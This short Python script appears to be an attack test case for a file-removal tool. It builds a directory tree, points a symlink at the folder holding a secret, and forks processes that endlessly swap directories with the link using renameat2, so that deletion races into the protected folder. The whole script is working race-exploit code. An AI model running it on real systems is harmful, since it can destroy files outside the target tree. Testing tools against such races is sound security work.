# ends: by itself
# Leaves processes that replace directories by links while its files are removed.
import ctypes, os
from attack import SECRET, done, libc
FOLDER = os.path.dirname(SECRET).encode()
EXCHANGE, HERE = 2, -100
os.makedirs("d/inner/inner")
for number in range(50):
    open(f"d/file{number}", "w").close()
    os.mkdir(f"d/inner/directory{number}")
os.symlink(FOLDER, "link")
for _ in range(4):
    if os.fork() == 0:
        while True:
            libc.renameat2(HERE, b"d", HERE, b"link", EXCHANGE)
            libc.renameat2(HERE, b"d/inner", HERE, b"link", EXCHANGE)
done()
